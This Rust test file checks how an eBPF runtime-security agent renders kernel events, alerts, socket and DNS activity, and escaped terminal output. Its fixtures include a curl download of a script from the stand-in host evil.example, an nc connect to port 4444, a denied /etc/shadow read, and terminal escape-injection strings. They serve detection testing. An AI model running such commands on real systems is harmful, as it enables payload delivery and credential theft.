use serde_json::{json, Value};

use super::*;
use crate::{Arg, Process, ProcessExec, ProcessExit, ProcessPolicy, SockArg};

fn proc(binary: &str, args: &str) -> Process {
    Process {
        binary: binary.into(),
        arguments: args.into(),
        ..Default::default()
    }
}

/// The process of a policy event as the agent writes it (the shape of
/// `fuzz-targets/src/sample_events.jsonl` and the scenarios in `tests/`).
fn process_json(pid: u32, binary: &str, arguments: &str) -> Value {
    json!({
        "exec_id": "bm9kZS1hOjEyMzQ1Njc4OTo0MjQy",
        "pid": pid,
        "tid": pid,
        "uid": 0,
        "auid": 4294967295u32,
        "cwd": "/root",
        "binary": binary,
        "arguments": arguments,
        "flags": "execve",
        "start_time": "2026-12-02T10:00:00.123456789Z",
        "parent_exec_id": "bm9kZS1hOjEwMDAwMDAwOjQyMDA="
    })
}

/// A `process_kprobe` (or `process_lsm`) event: `fields` holds its function, arguments and
/// what happened, the process runs `binary`.
fn policy_event(kind: &str, binary: &str, fields: Value) -> Event {
    let mut body = json!({
        "process": process_json(4242, binary, ""),
        "action": "KPROBE_ACTION_POST",
        "outcome": "posted",
    });
    for (k, v) in fields.as_object().expect("fields are an object") {
        body[k] = v.clone();
    }
    let event = json!({ kind: body, "node_name": "node-a", "time": "2026-12-02T10:00:01Z" });
    serde_json::from_value(event).expect("a policy event")
}

fn kprobe(binary: &str, fields: Value) -> String {
    render(&policy_event("process_kprobe", binary, fields))
}

#[test]
fn a_write_hook_prints_as_a_write_with_its_file_and_byte_count() {
    // The shipped observe-system-writes policy: the descriptor as a file, the count as size_t.
    let write = |function: &str, args: Value| {
        kprobe(
            "/usr/bin/sh",
            json!({
                "function_name": function,
                "args": args,
                "policy_name": "observe-system-writes",
                "message": "write to a system file",
                "tags": ["persistence", "defense-evasion"],
            }),
        )
    };
    let file = json!({ "file_arg": { "path": "/etc/vigil-write" } });
    assert_eq!(
        write("sys_write", json!([file, { "size_arg": 6 }])),
        "✍️ write   node-a /usr/bin/sh /etc/vigil-write 6 bytes posted [observe-system-writes]"
    );
    // Named by its architecture's wrapper, with the offset declared too.
    assert_eq!(
        write(
            "__x64_sys_pwrite64",
            json!([file, { "size_arg": 4096 }, { "int_arg": 512 }])
        ),
        "✍️ write   node-a /usr/bin/sh /etc/vigil-write 4096 bytes 512 posted [observe-system-writes]"
    );
    // writev counts buffers, not bytes.
    assert_eq!(
        write("sys_writev", json!([file, { "int_arg": 2 }])),
        "✍️ write   node-a /usr/bin/sh /etc/vigil-write 2 posted [observe-system-writes]"
    );
}

#[test]
fn every_known_hook_prints_its_operation_and_an_unknown_one_its_function_name() {
    let line = |function: &str, args: Value| {
        kprobe(
            "/usr/bin/busybox",
            json!({ "function_name": function, "args": args, "policy_name": "p" }),
        )
    };
    let path = |p: &str| json!({ "path_arg": { "path": p } });
    let int = |i: i64| json!({ "int_arg": i });
    let cases = [
        (
            line("sys_unlinkat", json!([path("/etc/x")])),
            "🧨 unlink  node-a /usr/bin/busybox /etc/x",
        ),
        (
            line("sys_renameat2", json!([path("/etc/a"), path("/etc/b")])),
            "🚚 rename  node-a /usr/bin/busybox /etc/a /etc/b",
        ),
        (
            line("sys_fchmodat", json!([path("/etc/a"), int(0o4755)])),
            "🔐 chmod   node-a /usr/bin/busybox /etc/a 4755",
        ),
        (
            line("sys_fchownat", json!([path("/etc/a"), int(1), int(-1)])),
            "👤 chown   node-a /usr/bin/busybox /etc/a owner 1 group -1",
        ),
        (
            line("sys_truncate", json!([path("/etc/a"), int(0)])),
            "✂️ truncate node-a /usr/bin/busybox /etc/a 0 bytes",
        ),
        (
            line("sys_setresuid", json!([int(0), int(0), int(0)])),
            "🔑 setresuid node-a /usr/bin/busybox ruid 0 euid 0 suid 0",
        ),
        // Only some of the ids declared: which is which is not known, so no names.
        (
            line("sys_setresuid", json!([int(0)])),
            "🔑 setresuid node-a /usr/bin/busybox 0",
        ),
        (
            line("sys_unshare", json!([int(0x1002_0000)])),
            "📦 unshare node-a /usr/bin/busybox CLONE_NEWUSER|CLONE_NEWNS",
        ),
        (
            line("sys_bpf", json!([int(5)])),
            "🐝 bpf     node-a /usr/bin/busybox BPF_PROG_LOAD",
        ),
        (
            line("sys_ptrace", json!([int(16), int(31337)])),
            "🔍 ptrace  node-a /usr/bin/busybox PTRACE_ATTACH pid 31337",
        ),
        (
            line(
                "sys_finit_module",
                json!([{ "file_arg": { "path": "/tmp/bogus.ko" } }, { "string_arg": "" }]),
            ),
            "🧩 module  node-a /usr/bin/busybox /tmp/bogus.ko \"\"",
        ),
        (
            line(
                "sys_init_module",
                json!([{ "size_arg": 512 }, { "string_arg": "debug=1" }]),
            ),
            "🧩 module  node-a /usr/bin/busybox 512 bytes \"debug=1\"",
        ),
        (
            line("sys_setuid", json!([int(0)])),
            "🔑 setuid  node-a /usr/bin/busybox uid 0",
        ),
        (
            line("sys_capset", json!([])),
            "🔑 capset  node-a /usr/bin/busybox",
        ),
        (
            line("sys_sethostname", json!([{ "string_arg": "pwned" }])),
            "🔧 syscall node-a /usr/bin/busybox sys_sethostname \"pwned\"",
        ),
        (
            line("do_sys_whatever", json!([int(3)])),
            "🔧 kprobe  node-a /usr/bin/busybox do_sys_whatever 3",
        ),
    ];
    for (got, want) in cases {
        assert_eq!(got, format!("{want} posted [p]"));
    }
    let lsm = render(&policy_event(
        "process_lsm",
        "/usr/bin/busybox",
        json!({ "function_name": "path_notify", "args": [path("/etc")], "policy_name": "p" }),
    ));
    assert_eq!(
        lsm,
        "🔒 lsm     node-a /usr/bin/busybox path_notify /etc posted [p]"
    );
}

#[test]
fn open_flags_print_by_name_not_as_a_number() {
    // The shipped observe-file-changes policy: the path, then the flags as an int.
    let open = |function: &str, args: Value| {
        kprobe(
            "/usr/bin/sh",
            json!({
                "function_name": function,
                "args": args,
                "policy_name": "observe-file-changes",
            }),
        )
    };
    let path = json!({ "path_arg": { "path": "/etc/cron.d/job" } });
    assert_eq!(
        open("sys_openat", json!([path, { "int_arg": 577 }])),
        "📬 open    node-a /usr/bin/sh /etc/cron.d/job O_WRONLY|O_CREAT|O_TRUNC posted [observe-file-changes]"
    );
    // Tetragon's policies declare openat's directory descriptor too: the flags and the mode
    // follow the path.
    let append = libc::O_WRONLY | libc::O_APPEND | libc::O_CLOEXEC;
    assert_eq!(
        open(
            "__x64_sys_openat",
            json!([{ "int_arg": -100 }, path, { "int_arg": append }, { "int_arg": 0o644 }])
        ),
        "📬 open    node-a /usr/bin/sh -100 /etc/cron.d/job O_WRONLY|O_APPEND|O_CLOEXEC 0644 posted [observe-file-changes]"
    );
    // creat(path, mode) opens with the flags it implies.
    assert_eq!(
        open("sys_creat", json!([path, { "int_arg": 0o600 }])),
        "📬 open    node-a /usr/bin/sh /etc/cron.d/job O_WRONLY|O_CREAT|O_TRUNC 0600 posted [observe-file-changes]"
    );
}

#[test]
fn a_policy_event_names_its_policy() {
    // A denied read of /etc/shadow by the shipped deny-credential-reads LSM policy.
    let denied = render(&policy_event(
        "process_lsm",
        "/usr/bin/cat",
        json!({
            "function_name": "file_open",
            "args": [{ "file_arg": { "path": "/etc/shadow" } }],
            "action": "KPROBE_ACTION_OVERRIDE",
            "policy_name": "deny-credential-reads",
            "message": "account database read by a file-dumping tool",
            "tags": ["credential-access", "attack.t1003.008"],
            "outcome": "denied",
        }),
    ));
    assert_eq!(
        denied,
        "📬 open    node-a /usr/bin/cat /etc/shadow denied [deny-credential-reads]"
    );
}

#[test]
fn an_alert_shows_the_pid_and_command_line_of_its_process() {
    let process = process_json(4242, "/usr/bin/curl", "-s https://evil.example/x.sh");
    let exec = json!({
        "process_exec": { "process": process },
        "node_name": "node-a",
        "time": "2026-12-02T10:00:00.123456789Z",
    });
    let alert = |rule_id: &str| {
        let event = json!({
            "process_alert": {
                "process": process,
                "rule_id": rule_id,
                "title": "Download of a script with curl",
                "level": "high",
                "tags": ["attack.t1105"],
                "rule_file": "/etc/vigil/sigma/curl_download.yml",
                "category": "process_creation",
                "event": exec,
            },
            "node_name": "node-a",
            "time": "2026-12-02T10:00:00.123456789Z",
        });
        render(&serde_json::from_value(event).expect("an alert"))
    };
    assert_eq!(
        alert("8b0c9a1e-1f5c-4d7a-9c55-2b9d1c1e7a10"),
        "🚨 alert   node-a /usr/bin/curl -s https://evil.example/x.sh pid 4242 [high] \
         Download of a script with curl (8b0c9a1e-1f5c-4d7a-9c55-2b9d1c1e7a10)"
    );
    // A rule without an id goes by its title, said once.
    assert_eq!(
        alert("Download of a script with curl"),
        "🚨 alert   node-a /usr/bin/curl -s https://evil.example/x.sh pid 4242 [high] \
         Download of a script with curl"
    );
}

#[test]
fn a_refused_or_failed_connect_says_so_and_shows_no_unknown_source() {
    // The shipped observe-tcp-connections policy; after a refused connect the kernel has reset
    // the socket's source to 0.0.0.0:0.
    let connect = |saddr: &str, sport: u16, state: &str, ret: Option<i64>| {
        let mut fields = json!({
            "function_name": "tcp_connect",
            "args": [{ "sock_arg": {
                "family": "AF_INET",
                "type": "SOCK_STREAM",
                "protocol": "IPPROTO_TCP",
                "saddr": saddr,
                "daddr": "10.0.0.9",
                "sport": sport,
                "dport": 4444,
                "state": state,
                "netns": 4026531840u32,
            } }],
            "policy_name": "observe-tcp-connections",
        });
        if let Some(r) = ret {
            fields["return"] = json!({ "int_arg": r });
        }
        kprobe("/usr/bin/nc", fields)
    };
    let refused = i64::from(-libc::ECONNREFUSED);
    let timed_out = i64::from(-libc::ETIMEDOUT);
    let in_progress = i64::from(-libc::EINPROGRESS);
    let cases = [
        (
            connect("0.0.0.0", 0, "TCP_CLOSE", Some(refused)),
            "tcp -> 10.0.0.9:4444 refused ECONNREFUSED",
        ),
        (
            connect("0.0.0.0", 0, "TCP_CLOSE", Some(timed_out)),
            "tcp -> 10.0.0.9:4444 failed ETIMEDOUT",
        ),
        // Its return not read: the closed socket tells.
        (
            connect("0.0.0.0", 0, "TCP_CLOSE", None),
            "tcp -> 10.0.0.9:4444 failed",
        ),
        (
            connect("10.0.0.2", 51234, "TCP_ESTABLISHED", Some(0)),
            "tcp 10.0.0.2:51234 -> 10.0.0.9:4444",
        ),
        (
            connect("10.0.0.2", 51234, "TCP_SYN_SENT", Some(in_progress)),
            "tcp 10.0.0.2:51234 -> 10.0.0.9:4444",
        ),
    ];
    for (got, want) in cases {
        assert_eq!(
            got,
            format!("🔌 connect node-a /usr/bin/nc {want} posted [observe-tcp-connections]")
        );
    }
}

#[test]
fn terminal_escape_sequences_from_a_process_are_shown_escaped() {
    // ESC [ 2 J clears an operator's screen; U+202E turns the rest of the line around.
    let exec = Event {
        body: EventBody::ProcessExec(ProcessExec {
            process: proc("/tmp/\u{1b}[2Jx", "\u{202e}gpj.exe \u{9b}31m \u{7f}").into(),
            parent: None,
            ancestors: vec![],
        }),
        node_name: "node".into(),
        node_labels: Default::default(),
        time: String::new(),
    };
    let line = render(&exec);
    assert_eq!(
        line,
        "🚀 process node /tmp/\\x1b[2Jx \\u{202e}gpj.exe \\u{9b}31m \\x7f"
    );
    let open = kprobe(
        "/bin/cat",
        json!({
            "function_name": "security_file_open",
            "args": [{ "file_arg": { "path": "/tmp/\u{1b}[2J\u{2066}\n" } }],
            "policy_name": "p\u{1b}]0;title\u{7}",
        }),
    );
    assert!(!open.chars().any(needs_escape), "{open:?}");
    assert!(open.contains("/tmp/\\x1b[2J\\u{2066}\\x0a"), "{open}");
    assert!(open.ends_with("[p\\x1b]0;title\\x07]"), "{open}");
}

#[test]
fn every_control_and_bidi_character_is_escaped_and_nothing_else() {
    let escaped: Vec<char> = (0..=0x10ffffu32)
        .filter_map(char::from_u32)
        .filter(|c| needs_escape(*c))
        .collect();
    let mut expected: Vec<char> = (0u32..0x20)
        .chain([0x7f])
        .chain(0x80..0xa0)
        .chain(0x202a..=0x202e)
        .chain(0x2066..=0x2069)
        .filter_map(char::from_u32)
        .collect();
    expected.sort();
    assert_eq!(escaped, expected);
    assert_eq!(escape("plain /usr/bin/é 日本"), "plain /usr/bin/é 日本");
}

#[test]
fn exec_and_exit_lines() {
    let exec = Event {
        body: EventBody::ProcessExec(ProcessExec {
            process: proc("/usr/bin/curl", "https://ebpf.io").into(),
            parent: None,
            ancestors: vec![],
        }),
        node_name: "node-a".into(),
        node_labels: Default::default(),
        time: String::new(),
    };
    assert_eq!(
        render(&exec),
        "🚀 process node-a /usr/bin/curl https://ebpf.io"
    );
    let exit = |signal: &str, status| Event {
        body: EventBody::ProcessExit(ProcessExit {
            process: proc("/usr/bin/curl", "https://ebpf.io").into(),
            parent: None,
            signal: signal.into(),
            status,
            time: String::new(),
            ancestors: vec![],
        }),
        node_name: "node-a".into(),
        node_labels: Default::default(),
        time: String::new(),
    };
    assert_eq!(
        render(&exit("SIGKILL", 0)),
        "💥 exit    node-a /usr/bin/curl https://ebpf.io SIGKILL"
    );
    assert_eq!(
        render(&exit("", 3)),
        "💥 exit    node-a /usr/bin/curl https://ebpf.io 3"
    );
}

#[test]
fn socket_lines_show_the_tuple_and_at_close_the_bytes() {
    let sock = |state: &str, bytes: Option<(u64, u64)>| SockArg {
        family: "AF_INET".into(),
        sock_type: "SOCK_STREAM".into(),
        protocol: "IPPROTO_TCP".into(),
        saddr: "10.0.0.1".into(),
        daddr: "10.0.0.2".into(),
        sport: 43210,
        dport: 443,
        state: state.into(),
        netns: 4026531840,
        cookie: 0,
        bytes_sent: bytes.map(|b| b.0),
        bytes_received: bytes.map(|b| b.1),
        encryption: None,
    };
    let event = |function: &str, args: Vec<Arg>, ret: Option<Arg>| Event {
        body: EventBody::ProcessKprobe(Box::new(ProcessPolicy {
            path: String::new(),
            symbol: String::new(),
            offset: 0,
            process: std::sync::Arc::new(proc("/usr/bin/curl", "")),
            parent: None,
            function_name: function.into(),
            subsys: String::new(),
            event: String::new(),
            buildid: String::new(),
            args,
            return_arg: ret,
            action: "KPROBE_ACTION_POST".into(),
            policy_name: "p".into(),
            message: String::new(),
            tags: vec![],
            outcome: "posted".into(),
            ancestors: vec![],
            return_action: String::new(),
            selector: None,
        })),
        node_name: "node".into(),
        node_labels: Default::default(),
        time: "t".into(),
    };
    let connect = event(
        "tcp_connect",
        vec![Arg::SockArg(sock("TCP_SYN_SENT", None))],
        None,
    );
    assert_eq!(
        render(&connect),
        "🔌 connect node /usr/bin/curl tcp 10.0.0.1:43210 -> 10.0.0.2:443 posted [p]"
    );
    let close = event(
        "tcp_close",
        vec![Arg::SockArg(sock("TCP_ESTABLISHED", Some((1000, 300))))],
        None,
    );
    assert_eq!(
        render(&close),
        "🧹 close   node /usr/bin/curl tcp 10.0.0.1:43210 -> 10.0.0.2:443 sent 1000 received 300 posted [p]"
    );
    // A lock where the flow left encrypted, an open one where it left in clear.
    for (mode, range, shown) in [
        ("wireguard", "10.2.0.0/16", " 🔒 wireguard"),
        ("ipsec", "10.2.0.0/16", " 🔒 ipsec"),
        ("none", "10.2.0.0/16", " 🔓 plaintext"),
        ("none", "", ""),
        ("local", "", ""),
        ("unknown", "10.2.0.0/16", ""),
    ] {
        let mut s = sock("TCP_ESTABLISHED", Some((1000, 300)));
        s.encryption = Some(Box::new(crate::Encryption {
            mode: mode.into(),
            evidence: "device".into(),
            remote_range: range.into(),
            ..Default::default()
        }));
        assert_eq!(
            render(&event("tcp_close", vec![Arg::SockArg(s)], None)),
            format!("🧹 close   node /usr/bin/curl tcp 10.0.0.1:43210 -> 10.0.0.2:443 sent 1000 received 300{shown} posted [p]")
        );
    }
    let mut any = sock("TCP_CLOSE", None);
    any.saddr = "0.0.0.0".into();
    let listen = event("inet_csk_listen_start", vec![Arg::SockArg(any)], None);
    assert_eq!(
        render(&listen),
        "👂 listen  node /usr/bin/curl tcp 0.0.0.0:43210 posted [p]"
    );
    let accept = event(
        "inet_csk_accept",
        vec![],
        Some(Arg::SockArg(sock("TCP_ESTABLISHED", None))),
    );
    assert_eq!(
        render(&accept),
        "📥 accept  node /usr/bin/curl tcp 10.0.0.1:43210 -> 10.0.0.2:443 posted [p]"
    );
    let mut v6 = sock("TCP_SYN_SENT", None);
    v6.family = "AF_INET6".into();
    v6.saddr = "fd00:204::1".into();
    v6.daddr = "fd00:204::2".into();
    let connect6 = event("tcp_connect", vec![Arg::SockArg(v6)], None);
    assert_eq!(
        render(&connect6),
        "🔌 connect node /usr/bin/curl tcp [fd00:204::1]:43210 -> [fd00:204::2]:443 posted [p]"
    );

    // UDP: the length sent, and for DNS the question, and for an answer its code and what it
    // answered.
    let mut udp = sock("", None);
    udp.protocol = "IPPROTO_UDP".into();
    let send = event(
        "udp_sendmsg",
        vec![Arg::SockArg(udp.clone()), Arg::IntArg(33)],
        None,
    );
    assert_eq!(
        render(&send),
        "📤 sendmsg node /usr/bin/curl udp 10.0.0.1:43210 -> 10.0.0.2:443 33 bytes posted [p]"
    );
    let dns = |response: bool, rcode: &str, answers: &[&str]| {
        Arg::DnsArg(crate::dns::DnsArg {
            id: 7,
            response,
            query: "unknown-galaxy.svc.cluster.local".into(),
            qtype: "A".into(),
            rcode: rcode.into(),
            answers: answers.iter().map(|a| a.to_string()).collect(),
            ..Default::default()
        })
    };
    let q = event(
        "udp_sendmsg",
        vec![Arg::SockArg(udp.clone()), dns(false, "", &[])],
        None,
    );
    assert_eq!(
        render(&q),
        "🔎 dns     node /usr/bin/curl udp 10.0.0.1:43210 -> 10.0.0.2:443 query A unknown-galaxy.svc.cluster.local posted [p]"
    );
    let nx = event(
        "udp_recvmsg",
        vec![Arg::SockArg(udp.clone()), dns(true, "NXDOMAIN", &[])],
        None,
    );
    assert_eq!(
        render(&nx),
        "🔎 dns     node /usr/bin/curl udp 10.0.0.1:43210 <- 10.0.0.2:443 answer A unknown-galaxy.svc.cluster.local NXDOMAIN posted [p]"
    );
    let ok = event(
        "udp_recvmsg",
        vec![
            Arg::SockArg(udp),
            dns(true, "NOERROR", &["10.1.2.3", "10.1.2.4"]),
        ],
        None,
    );
    assert!(render(&ok).ends_with("NOERROR 10.1.2.3,10.1.2.4 posted [p]"));
}

#[test]
fn a_process_in_a_pod_is_placed_by_namespace_and_pod_as_tetragon_does() {
    let mut p = proc("/usr/bin/curl", "https://example.org");
    p.pod = Some(Box::new(crate::Pod {
        namespace: "default".into(),
        name: "xwing".into(),
        ..Default::default()
    }));
    let exec = Event {
        body: EventBody::ProcessExec(ProcessExec {
            process: p.into(),
            parent: None,
            ancestors: vec![],
        }),
        node_name: "node".into(),
        node_labels: Default::default(),
        time: String::new(),
    };
    assert_eq!(
        render(&exec),
        "🚀 process default/xwing /usr/bin/curl https://example.org"
    );
}
